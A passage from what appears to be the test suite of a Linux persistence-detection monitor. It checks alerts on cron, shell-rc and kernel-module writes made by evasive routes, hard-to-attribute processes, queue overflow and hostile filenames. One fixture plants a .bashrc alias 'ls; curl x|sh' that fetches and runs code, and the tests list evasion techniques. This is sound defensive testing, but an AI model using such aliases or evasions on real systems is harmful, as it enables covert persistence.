        for e, pid, exe, tag in ((got[0], py, PY, "two-py"), (got[1], sh, tool["sh"], "two-sh")):
            check(e["event"]["action"] == "modified", "event.action %r" % e["event"]["action"])
            check_writer(e, sensor, pid, exe)
            added = added_lines(e["foothold"]["item"].get("detail", {}))
            check(added == [line(tag).rstrip("\n")], "%s's alert: added lines %r" %
                  (tag, added), js(e))

    def t_stray():
        want = {"/etc/cron.d/" + n for n in ("moved", "moved2", "viasym", "hard", "tmpfile",
                                            "copied", "installed", "gone", "away", "two",
                                            "sedjob")}
        want |= set(appends.values()) | {p for p, _ in chmods.values()}
        want |= {"/var/spool/cron/crontabs/alice", "/home/alice/.gitconfig",
                 "/etc/systemd/system/multi-user.target.wants/foo.service"}
        stray = [e for e in res.alerts if e.get("file", {}).get("path") not in want]
        check(not stray, "%d alerts at other paths" % len(stray), *map(js, stray))

    return {
        "mv-in": t_mv_in("mv-in", "/etc/cron.d/moved", "mv", None),
        "mv-in-root": t_mv_in("mv-in-root", "/etc/cron.d/moved2", "mv2", "/other/y"),
        "sed-i": t_sed,
        "crontab-rename": t_crontab,
        "git-lock": t_git,
        "symlink-dir": t_symlink_dir,
        "hard-link": t_hard,
        "o-tmpfile": t_tmpfile,
        "shell-append": t_append("shell-append", tool["sh"], "sh"),
        "tee-append": t_append("tee-append", tool["tee"], "tee"),
        "dd-append": t_append("dd-append", tool["dd"], "dd"),
        "python-append": t_append("python-append", PY, "py"),
        "cp-a": t_copy("cp-a", "/etc/cron.d/copied", tool["cp"], "cp-a"),
        "install": t_copy("install", "/etc/cron.d/installed", tool["install"], "install"),
        "chmod-cron-daily": t_chmod("chmod-cron-daily"),
        "chmod-motd": t_chmod("chmod-motd"),
        "chmod-rc-local": t_chmod("chmod-rc-local"),
        "chmod-generator": t_chmod("chmod-generator"),
        "touch-no-alert": t_touch,
        "enable-symlink": t_enable,
        "same-bytes-no-alert": t_same,
        "rm-deleted": t_gone("rm-deleted", "/etc/cron.d/gone", tool["rm"]),
        "mv-away": t_gone("mv-away", "/etc/cron.d/away", tool["mv"]),
        "two-writers": t_two,
        "evasions-no-stray": t_stray,
    }


EVASIONS = ["mv-in", "mv-in-root", "sed-i", "crontab-rename", "git-lock", "symlink-dir",
            "hard-link", "o-tmpfile", "shell-append", "tee-append", "dd-append",
            "python-append", "cp-a", "install", "chmod-cron-daily", "chmod-motd",
            "chmod-rc-local", "chmod-generator", "touch-no-alert", "enable-symlink",
            "same-bytes-no-alert", "rm-deleted", "mv-away", "two-writers", "evasions-no-stray"]


# ---- attribution edge cases ----

FORK_PY = ("import os,sys\n"
           "r,w=os.pipe()\n"
           "pid=os.fork()\n"
           "if pid==0:\n"
           "    open(sys.argv[1],'w').write(sys.argv[2]); os._exit(0)\n"
           "os.waitpid(pid,0); print(pid)\n")

# The middle process forks the writer and exits; the writer waits to be reparented,
# then writes and prints its pid, its old parent and its new parent.
ORPHAN_PY = ("import os,sys,time\n"
             "r,w=os.pipe()\n"
             "mid=os.fork()\n"
             "if mid==0:\n"
             "    me=os.getpid()\n"
             "    if os.fork()==0:\n"
             "        while os.getppid()==me: time.sleep(0.005)\n"
             "        open(sys.argv[1],'w').write(sys.argv[2])\n"
             "        os.write(w,('%d %d %d' % (os.getpid(), me, os.getppid())).encode())\n"
             "        os._exit(0)\n"
             "    os._exit(0)\n"
             "os.close(w); os.waitpid(mid,0)\n"
             "print(os.read(r,100).decode())\n")


def g_attr(ctx, sensor, cases):
    """Writers that are hard to name: exited, forked, orphaned, deleted."""
    root = Root(ctx, "attr")
    cd = root.mkdir("/etc/cron.d")
    root.write("/etc/cron.d/deleted-exe", "* * * * * root /tmp/fh-base\n")
    root.write("/etc/cron.d/two", "* * * * * root /tmp/fh-base\n")
    sh = which("sh")
    sh_copy = os.path.join(ctx.base, marker("sh"))
    shutil.copyfile(sh, sh_copy)
    os.chmod(sh_copy, 0o755)
    out = {}
    with Monitor(ctx, sensor, root.dir) as mon:
        # Written and exited while foothold was stopped.
        os.kill(mon.proc.pid, signal.SIGSTOP)
        try:
            out["exited-writer"] = ctx.run([sh, "-c", 'echo "* * * * * root /tmp/fh-exited" '
                                            '> "$1"', "sh", cd + "/exited"])[0]
            # Two writers of one item, both read by foothold in one batch.
            out["two-writers-stopped"] = (
                ctx.py_write(cd + "/two", "* * * * * root /tmp/fh-two-py\n", append=True),
                ctx.run([sh, "-c", 'echo "* * * * * root /tmp/fh-two-sh" >> "$1"', "sh",
                         cd + "/two"])[0])
            time.sleep(0.1)
        finally:
            os.kill(mon.proc.pid, signal.SIGCONT)
        pid, txt = ctx.run([PY, "-S", "-c", FORK_PY, cd + "/forked",
                            "* * * * * root /tmp/fh-forked\n"])
        out["fork-noexec"] = (pid, int(txt.strip()))
        ARGV[int(txt.strip())] = ARGV[pid]  # a fork runs its parent's image
        pid, txt = ctx.run([PY, "-S", "-c", ORPHAN_PY, cd + "/orphan",
                            "* * * * * root /tmp/fh-orphan\n"])
        out["reparented"] = (pid, [int(x) for x in txt.split()])
        ARGV[out["reparented"][1][0]] = ARGV[pid]
        # A copy of sh, deleted while it sleeps, then writes.
        p = ctx.spawn([sh_copy, "-c", 'sleep 0.4; echo "* * * * * root /tmp/fh-deleted" >> "$1"',
                       "sh", cd + "/deleted-exe"])
        time.sleep(0.15)
        os.unlink(sh_copy)
        p.wait(timeout=10)
        check(p.returncode == 0, "the deleted sh exited %d" % p.returncode)
        out["deleted-exe"] = p.pid
        res = mon.stop()

    def t_exited():
        e = check_alert(res, sensor, "/etc/cron.d/exited", "cron-d", "created",
                        out["exited-writer"], sh)
        check(e["foothold"]["item"].get("object") == "/tmp/fh-exited", "object", js(e))
        check(e["foothold"].get("process", {}).get("exited") is True,
              "foothold.process.exited is not true for an exited writer", js(e))

    def t_fork():
        parent, child = out["fork-noexec"]
        e = check_alert(res, sensor, "/etc/cron.d/forked", "cron-d", "created", child, PY,
                        chain=[parent, os.getpid()])
        check(e["foothold"]["item"].get("object") == "/tmp/fh-forked", "object", js(e))

    def t_orphan():
        top, (pid, mid, newp) = out["reparented"]
        e = check_alert(res, sensor, "/etc/cron.d/orphan", "cron-d", "created", pid, PY,
                        chain=[])
        anc = [a.get("pid") for a in e["foothold"].get("ancestry", [])]
        # Either the lineage at fork time (mid, top, this script) or the parent at write
        # time (a subreaper or init): never another process.
        check(anc[:3] == [mid, top, os.getpid()] or (anc and anc[0] == newp),
              "ancestry %r: neither the fork lineage %r nor the new parent %d" %
              (anc, [mid, top, os.getpid()], newp), js(e))
        pp = e["process"].get("parent", {}).get("pid")
        check(pp in (None, mid, newp), "process.parent.pid %r" % pp)

    def t_deleted():
        e = check_alert(res, sensor, "/etc/cron.d/deleted-exe", "cron-d", "modified",
                        out["deleted-exe"], sh_copy, lingering=True, allow=("degraded",))
        check(e["process"].get("executable") == sh_copy,
              "the deleted executable is not named", js(e))

    def t_two():
        py, shp = out["two-writers-stopped"]
        got = res.at("/etc/cron.d/two")
        check(len(got) == 2, "%d alerts for two writers, expected 2" % len(got), *map(js, got))
        check([e.get("process", {}).get("pid") for e in got] == [py, shp],
              "writers %r, expected %r in that order" %
              ([e.get("process", {}).get("pid") for e in got], [py, shp]))
        # Both wrote before foothold read either event (it was stopped): the file read at
        # the first alert already holds both lines, and fanotify gives no offsets, so no
        # monitor can split them. The contract: each writer gets its own exact alert;
        # the first one's added lines are its own line, or its own and the second's with
        # the second writer named in detail.other_writer_pid and a note saying so.
        for e, pid, exe in ((got[0], py, PY), (got[1], shp, sh)):
            check(e["event"]["action"] == "modified", "event.action %r" % e["event"]["action"])
            check_writer(e, sensor, pid, exe)
        first = got[0]["foothold"]["item"].get("detail", {})
        added = added_lines(first)
        mine, theirs = "* * * * * root /tmp/fh-two-py", "* * * * * root /tmp/fh-two-sh"
        check(added in ([mine], [mine, theirs]), "first alert: added lines %r" % added,
              js(got[0]))
        if added == [mine, theirs]:
            check(first.get("other_writer_pid") == shp and first.get("note"),
                  "the first alert shows the second writer's line without naming it",
                  js(got[0]))
        second = added_lines(got[1]["foothold"]["item"].get("detail", {}))
        check(second in ([], [theirs]), "second alert: added lines %r" % second, js(got[1]))

    return {"exited-writer": t_exited, "fork-noexec": t_fork, "reparented": t_orphan,
            "deleted-exe": t_deleted, "two-writers-stopped": t_two}


ATTRS = ["exited-writer", "fork-noexec", "reparented", "deleted-exe", "two-writers-stopped"]


# ---- the real system ----

def g_real(ctx, sensor, cases):
    """A file in the real /etc/cron.d (no --root); removed again whatever happens."""
    d = "/etc/cron.d"
    existed = os.path.isdir(d)
    name = "fh-test-" + uuid.uuid4().hex[:12]
    path = os.path.join(d, name)
    # February 31st never comes: cron, if it runs, never starts this.
    content = "0 0 31 2 * root /bin/true %s\n" % name
    try:
        with Monitor(ctx, sensor) as mon:
            if not existed:
                os.mkdir(d, 0o755)
            pid = ctx.py_write(path, content)
            res = mon.stop()
    finally:
        if os.path.lexists(path):
            os.unlink(path)
        if not existed and os.path.isdir(d):
            os.rmdir(d)
    check(os.path.isdir(d) == existed, "could not restore %s" % d)

    def t():
        e = check_alert(res, sensor, path, "cron-d", "created", pid, PY)
        check(e["foothold"]["item"].get("object") == "/bin/true " + name, "object %r" %
              e["foothold"]["item"].get("object"), js(e))
        check("root" not in e["foothold"], "foothold.root %r without --root" %
              e["foothold"].get("root"))
    return {"real-cron-d": t}


# ---- configuration: user catalog entries, -n, SIGHUP, quiet defaults ----

GOOD_CONF = """# test config
[general]
health_interval = 0

[catalog]
type = fh-agent T1543 - test agent job files
system = fh-agent /opt/fh-agent/*.job
user = shell-rc-user ~/.fhrc
"""


def g_config(ctx, sensor, cases):
    CATALOG["fh-agent"] = ["T1543"]  # the type the config below adds
    r = Root(ctx, "conf-" + sensor)
    conf = os.path.join(r.dir, "fh.conf")  # outside every catalog path of the root
    with open(conf, "w") as f:
        f.write(GOOD_CONF + decisions_conf(ctx.base))
    bad = os.path.join(r.dir, "bad.conf")
    with open(bad, "w") as f:
        f.write("[general]\nhealth_interval = 0\nno_such_key = 1\n")
    # -n: a good config is OK, a bad one names its file and line, exit non-zero.
    ok = subprocess.run([ctx.foothold, "run", "-n", "-c", conf, "--root", r.dir],
                        capture_output=True, text=True)
    nok = subprocess.run([ctx.foothold, "run", "-n", "-c", bad, "--root", r.dir],
                         capture_output=True, text=True)
    # A copy of python named dpkg, run as root: a package manager by its executable.
    fake = os.path.join(r.dir, "fakebin")
    os.makedirs(fake)
    dpkg = os.path.join(fake, "dpkg")
    shutil.copy2(PY, dpkg)
    out = {}
    with Monitor(ctx, sensor, r.dir, ["-c", conf]) as mon:
        out["job"] = ctx.py_write(r.host("/opt/fh-agent/a.job"), "run /tmp/x\n", makedirs=True)
        out["fhrc"] = ctx.py_write(r.host("/root/.fhrc"), "export X=1\n")
        argv = [dpkg, "-S", "-c", WRITE_PY, r.host("/etc/cron.d/pkg"),
                base64.b64encode(b"0 0 31 2 * root /bin/true\n").decode(), "wd", "644"]
        out["dpkg"] = ctx.run(argv)[0]
        # SIGHUP with a broken config: an error naming file:line, the old config kept.
        with open(conf, "a") as f:
            f.write("[general]\nbogus = yes\n")
        mon.proc.send_signal(signal.SIGHUP)
        time.sleep(0.5)
        out["after"] = ctx.py_write(r.host("/opt/fh-agent/b.job"), "run /tmp/y\n")
        res = mon.stop()

    def t_catalog():
        # The writer made /opt/fh-agent itself just before writing: if the file beat the
        # new directory's mark, the alert names the directory's creator, as degraded.
        e = check_alert(res, sensor, "/opt/fh-agent/a.job", "fh-agent", "created", out["job"],
                        PY, allow=("degraded",))
        att = e["foothold"]["attribution"]
        check(att["status"] == "exact" or sensor == "procconn" or
              "created that directory" in att.get("reason", ""),
              "degraded for another reason: %r" % att.get("reason"))
        e = check_alert(res, sensor, "/root/.fhrc", "shell-rc-user", "created", out["fhrc"], PY)

    def t_check():
        check(ok.returncode == 0 and "configuration OK" in ok.stdout,
              "-n on a good config: exit %d" % ok.returncode, ok.stdout, ok.stderr)
        check(nok.returncode != 0, "-n on a bad config exited 0", nok.stderr)
        check(re.search(re.escape(bad) + r":3:.*no_such_key", nok.stderr),
              "the error does not name %s:3 and the key" % bad, nok.stderr)

    def t_sighup():
        check(re.search(re.escape(conf) + r":\d+:.*bogus", res.err),
              "no error naming the broken config's file:line after SIGHUP", res.err)
        check("keeping the running" in res.err, "no word that the old config is kept", res.err)
        check_alert(res, sensor, "/opt/fh-agent/b.job", "fh-agent", "created", out["after"], PY)

    def t_quiet():
        e = only(res.at("/etc/cron.d/pkg"), "record for the package manager's write")
        st = e["foothold"]["attribution"]["status"]
        if sensor == "procconn" and st != "exact" and e["event"]["kind"] == "alert":
            # A writer whose image could not be read cannot prove it is dpkg: alerted.
            check(e["foothold"].get("writer_class") == "user", "writer_class %r" %
                  e["foothold"].get("writer_class"))
            return
        check(e["event"]["kind"] == "event", "event.kind %r for a package manager's write" %
              e["event"]["kind"], js(e))
        check(e["foothold"].get("writer_class") == "package-manager",
              "writer_class %r" % e["foothold"].get("writer_class"), js(e))
        check(e["log"]["level"] == "info", "log.level %r" % e["log"]["level"])
        check(get(e, "process.executable") == dpkg, "executable %r" %
              get(e, "process.executable"))
    return {"config-catalog": t_catalog, "config-check": t_check, "config-sighup": t_sighup,
            "quiet-package-manager": t_quiet}


CONFIGS = ["config-catalog", "config-check", "config-sighup", "quiet-package-manager"]


# ---- a full fanotify queue: counted, reported, and nothing missed ----

STORM_PY = ("import os,sys\n"
            "d,n=sys.argv[1],int(sys.argv[2])\n"
            "for i in range(n):\n"
            "    fd=os.open('%s/s%05d'%(d,i),os.O_WRONLY|os.O_CREAT|os.O_TRUNC,0o644)\n"
            "    os.write(fd,b'0 0 31 2 * root /bin/true %d\\n'%i)\n"
            "    os.close(fd)\n")
STORM_N = 20000  # one event each (create, modify and close-write merge): past 16384


def g_overflow(ctx, sensor, cases):
    """foothold is stopped while 20000 items are written: the kernel's queue overflows.
    Then it is told to exit 0.3 s after it resumes: nothing queued may be lost."""
    r = Root(ctx, "ovf-" + sensor)
    d = r.mkdir("/etc/cron.d")
    with Monitor(ctx, sensor, r.dir) as mon:
        mon.proc.send_signal(signal.SIGSTOP)
        try:
            pid = ctx.run([PY, "-S", "-c", STORM_PY, d, str(STORM_N)], timeout=120)[0]
        finally:
            mon.proc.send_signal(signal.SIGCONT)
        # Stopped long before it can have read the queue: what the kernel had queued is
        # still read at stop, and the overflow's rescan done, before foothold exits.
        res = mon.stop(settle=0.3)

    def t():
        paths = {e["file"]["path"] for e in res.under("/etc/cron.d/")}
        want = {"/etc/cron.d/s%05d" % i for i in range(STORM_N)}
        check(paths == want, "%d of %d items alerted (missing e.g. %r)" %
              (len(paths & want), STORM_N, sorted(want - paths)[:3]))
        check(len(res.under("/etc/cron.d/")) == STORM_N, "%d alerts for %d items" %
              (len(res.under("/etc/cron.d/")), STORM_N))
        health = [e for e in res.events if e.get("event", {}).get("kind") == "metric"]
        ovf = [e["foothold"]["health"]["fanotify"]["overflows"] for e in health]
        check(max(ovf) >= 1, "no health record counts the overflow: %r" % ovf)
        loss = [e for e in health if e["event"]["action"] == "loss"]
        check(loss and loss[0]["log"]["level"] == "warning",
              "no warning-level health record for the loss", *map(js, health))
        rescued = [e for e in res.under("/etc/cron.d/")
                   if "overflowed" in e["foothold"]["attribution"].get("reason", "")]
        check(rescued, "no alert says it was found by the rescan after the overflow")
        for e in rescued[:50]:
            check(e["foothold"]["attribution"]["status"] == "unknown", "rescan alert %s" %
                  e["foothold"]["attribution"])
        for e in res.under("/etc/cron.d/"):
            if e["foothold"]["attribution"]["status"] == "exact":
                check(e["process"]["pid"] == pid, "an exact alert names pid %r, not the "
                      "writer %d" % (e["process"].get("pid"), pid))
    return {"queue-overflow": t}


# ---- canonical paths and accounts that appear later ----

def g_canon(ctx, sensor, cases):
    r = Root(ctx, "canon-" + sensor)
    r.mkdir("/usr/lib/modules/6.1.0-fh/extra")
    os.symlink("usr/lib", r.host("/lib"))  # merged /usr, as Debian has it
    out = {}
    with Monitor(ctx, sensor, r.dir) as mon:
        # Through /lib: lands in /usr/lib, reported there.
        out["ko"] = ctx.py_write(r.host("/lib/modules/6.1.0-fh/extra/fh.ko"),
                                 b"\x7fELF\x02\x01\x01" + b"\0" * 57)
        # A new account: its home is watched from then on.
        with open(r.host("/etc/passwd"), "a") as f:
            f.write("bob:x:1001:1001::/home/bob:/bin/bash\n")
        time.sleep(0.5)
        r.mkdir("/home/bob")
        time.sleep(0.3)
        out["bob"] = ctx.py_write(r.host("/home/bob/.bashrc"), "alias ls='ls; curl x|sh'\n")
        res = mon.stop()

    def t_usr():
        e = check_alert(res, sensor, "/usr/lib/modules/6.1.0-fh/extra/fh.ko", "kernel-module",
                        "created", out["ko"], PY)
        check(not res.under("/lib/"), "an alert at the /lib spelling",
              *map(js, res.under("/lib/")))
        check(e["foothold"]["item"]["detail"].get("parser") == "binary",
              "parser %r" % e["foothold"]["item"]["detail"].get("parser"))

    def t_home():
        e = check_alert(res, sensor, "/home/bob/.bashrc", "shell-rc-user", "created",
                        out["bob"], PY)
        home = e["foothold"]["item"].get("home", {})
        check(home.get("user") == "bob" and home.get("dir") == "/home/bob",
              "foothold.item.home %r" % home, js(e))
    return {"merged-usr": t_usr, "new-account-home": t_home}


# ---- sinks: the alert log (reopened on SIGHUP, as logrotate needs) and journald ----

def start_journald():
    """A journald for the test when none runs (containers without systemd); or None."""
    sock = "/run/systemd/journal/socket"
    if os.path.exists(sock):
        import socket
        s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
        try:
            s.connect(sock)  # refused when the socket file is a dead journald's
            return None
        except OSError:
            os.unlink(sock)
        finally:
            s.close()
    jd = "/lib/systemd/systemd-journald"
    if not os.access(jd, os.X_OK):
        raise Skip("no journald running and none to start")
    os.makedirs("/run/systemd/journal", exist_ok=True)
    p = subprocess.Popen([jd], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    for _ in range(50):
        if os.path.exists("/run/systemd/journal/socket"):
            return p
        time.sleep(0.1)
    p.kill()
    p.wait()
    raise Skip("journald did not create its socket")


def g_sinks(ctx, sensor, cases):
    r = Root(ctx, "sinks-" + sensor)
    r.mkdir("/etc/cron.d")
    logdir = os.path.join(r.dir, "log")  # outside every catalog path of the root
    log = os.path.join(logdir, "alerts.json")
    tag = marker("j")
    hostile = "/etc/cron.d/" + tag + "\n\x1b[31mred\xff"  # newline, ESC, invalid UTF-8
    jd = start_journald()
    out = {}
    try:
        mon = Foothold([ctx.foothold, "run", "--quiet-stdout", "-c", ctx.conf, "--log-file", log,
                        "--sensor", sensor, "--root", r.dir], "foothold run", READY_TIMEOUT)
        with mon:
            out["a"] = ctx.py_write(r.host("/etc/cron.d/" + tag + "-a"), "* * * * * root /a\n")
            time.sleep(0.3)
            os.rename(log, log + ".1")  # what logrotate does
            mon.proc.send_signal(signal.SIGHUP)
            time.sleep(0.5)
            out["b"] = ctx.py_write(r.host("/etc/cron.d/" + tag + "-b"), "* * * * * root /b\n")
            hpath = os.fsencode(r.host("/etc/cron.d/")) + (tag + "\n\x1b[31mred").encode() + b"\xff"
            out["h"] = ctx.py_write(hpath.decode("utf-8", "surrogateescape"), "* * * * * root /h\n")
            rc, stdout, err = mon.finish(signal.SIGINT, SETTLE)
        # --all: fields over 4 KiB are otherwise shown as null; binary ones come as arrays
        # of bytes.
        j = subprocess.run(["journalctl", "-t", "foothold", "-o", "json", "--all",
                            "--no-pager", "--since", "-5min"], capture_output=True, text=True)
        out["journal"] = []
        for l in j.stdout.splitlines():
            if l.strip():
                x = json.loads(l)
                for k, v in x.items():
                    if isinstance(v, list):
                        x[k] = bytes(v).decode("utf-8", "replace")
                out["journal"].append(x)
    finally:
        if jd:
            jd.terminate()
            jd.wait()

    def lines(path):
        with open(path, "rb") as f:
            data = f.read()
        check(data.endswith(b"\n"), "%s does not end with a newline" % path)
        return [json.loads(l) for l in data.split(b"\n")[:-1]]

    def t_log():
        old, new = lines(log + ".1"), lines(log)
        pa = [e["file"]["path"] for e in old if e["event"]["kind"] == "alert"]
        pb = [e["file"]["path"] for e in new if e["event"]["kind"] == "alert"]
        check(pa == ["/etc/cron.d/%s-a" % tag], "rotated log alerts %r" % pa)
        check("/etc/cron.d/%s-b" % tag in pb, "the reopened log lacks the next alert: %r" % pb)
        check(any(e["event"]["kind"] == "metric" and e["event"]["action"] == "stop" for e in new),
              "no stop health record in the reopened log")

    def t_hostile():
        new = [e for e in lines(log) if e["event"]["kind"] == "alert"]
        h = [e for e in new if e["file"]["name"].startswith(tag + "\n")]
        e = only(h, "alert for the hostile name")
        check(e["file"]["name"] == tag + "\n\x1b[31mred\ufffd", "file.name %r" % e["file"]["name"])
        raw = base64.b64decode(e["foothold"]["raw"]["path"])
        check(raw == b"/etc/cron.d/" + (tag + "\n\x1b[31mred").encode() + b"\xff",
              "foothold.raw.path %r" % raw)
        check(e["process"]["pid"] == out["h"], "writer %r" % e["process"].get("pid"))

    def t_journal():
        recs = [x for x in out["journal"] if tag in (x.get("FOOTHOLD_JSON") or "")]
        check(len(recs) >= 3, "%d journal records for this test's alerts" % len(recs),
              *[x.get("MESSAGE") for x in out["journal"][-10:]])
        for x in recs:
            check(x.get("FOOTHOLD_ITEM_TYPE") == "cron-d", "FOOTHOLD_ITEM_TYPE %r" %
                  x.get("FOOTHOLD_ITEM_TYPE"))
            check(x.get("PRIORITY") == "4", "PRIORITY %r" % x.get("PRIORITY"))
            msg = x["MESSAGE"]
            check(not any(ord(c) < 0x20 or ord(c) == 0x7f for c in msg),
                  "a control character in MESSAGE %r" % msg)
            json.loads(x["FOOTHOLD_JSON"])
    return {"log-reopen": t_log, "hostile-name": t_hostile, "journald": t_journal}


GROUPS = [
    ("rows", g_rows, case_names_rows()),
    ("evasions", g_evasions, EVASIONS),
    ("attribution", g_attr, ATTRS),
    ("real", g_real, ["real-cron-d"]),
    ("config", g_config, CONFIGS),
    ("overflow", g_overflow, ["queue-overflow"]),
    ("canon", g_canon, ["merged-usr", "new-account-home"]),
    ("sinks", g_sinks, ["log-reopen", "hostile-name", "journald"]),
]


def main(argv):
    args = argv[1:]
    if not args or args[0] in ("-h", "--help"):
        sys.stderr.write(__doc__)
        return 2
    build, sensors, only_names, dump = args[0], [], [], False
    i = 1
    while i < len(args):
        if args[i] == "--sensor" and i + 1 < len(args):
            sensors.append(args[i + 1])
        elif args[i] == "--only" and i + 1 < len(args):
            only_names.append(args[i + 1])
        elif args[i] == "--dump":
            dump = True
            i += 1
            continue
        else:
            sys.stderr.write("test_run.py: unexpected argument %r\n" % args[i])
            return 2
        i += 2
    if os.geteuid() != 0:
        for s in sensors or ["bpf", "procconn"]:
            print("SKIP root/%s/run-all: not root" % s)
        return 0
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    os.umask(0o022)
    ctx = Ctx(build, dump)
    failed = 0
    try:
        for sensor in sensors or ["bpf", "procconn"]:
            for gname, fn, names in GROUPS:
                sel = [n for n in names if not only_names or n in only_names or
                       gname in only_names]
                if not sel:
                    continue
                t0 = time.monotonic()
                ARGV.clear()
                try:
                    checks = fn(ctx, sensor, sel)
                    err = None
                except Skip as e:
                    checks, err = {}, ("SKIP", e.args[0], ())
                except Fail as e:
                    checks, err = {}, ("FAIL", e.args[0], e.args[1:])
                except Exception as e:  # a broken group is a failure of each of its tests
                    checks, err = {}, ("FAIL", "%s: %s" % (type(e).__name__, e),
                                       (traceback.format_exc(),))
                finally:
                    ctx.reap_children()
                if err:
                    sys.stderr.write("--- group %s (%s): %s\n" % (gname, sensor, err[1]))
                    for d in err[2]:
                        sys.stderr.write("%s\n" % str(d)[:4000])
                for n in sel:
                    tag = "root/%s/run-%s" % (sensor, n)
                    if err:
                        failed += err[0] == "FAIL"
                        print("%s %s: %s" % (err[0], tag, err[1]), flush=True)
                        continue
                    try:
                        checks[n]()
                        print("PASS %s" % tag, flush=True)
                    except Skip as e:
                        print("SKIP %s: %s" % (tag, e.args[0]), flush=True)
                    except Fail as e:
                        failed += 1
                        print("FAIL %s: %s" % (tag, e.args[0]), flush=True)
                        sys.stderr.write("--- %s: %s\n" % (tag, e.args[0]))
                        for d in e.args[1:]:
                            if isinstance(d, bytes):
                                d = d.decode("utf-8", "replace")
                            sys.stderr.write("%s\n" % str(d)[:6000])
                    except Exception as e:
                        failed += 1
                        print("FAIL %s: %s: %s" % (tag, type(e).__name__, e), flush=True)
                        traceback.print_exc()
                sys.stderr.write("(group %s/%s took %.1fs)\n" % (sensor, gname,
                                                                 time.monotonic() - t0))
    finally:
        ctx.cleanup()
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
